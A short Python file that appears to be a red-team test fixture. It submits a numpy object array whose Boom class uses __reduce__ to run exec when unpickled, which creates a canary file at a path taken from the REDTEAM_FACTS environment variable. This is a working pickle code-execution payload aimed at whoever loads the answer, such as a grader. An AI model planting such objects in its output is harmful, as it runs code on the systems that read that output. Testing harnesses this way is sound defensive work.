"""Answers with an array of objects that run code when unpickled.

[specimen]
rows = ["20", "peers: c"]
expected = ["ill_typed"]
"""

import json
import os

import numpy as np

facts = json.loads(os.environ["REDTEAM_FACTS"])


class Boom:
    def __reduce__(self):
        return exec, (f"open({facts['drop'] + '/' + facts['token']!r}, 'w').close()",)


def answer(question):
    return np.array([Boom()], dtype=object)
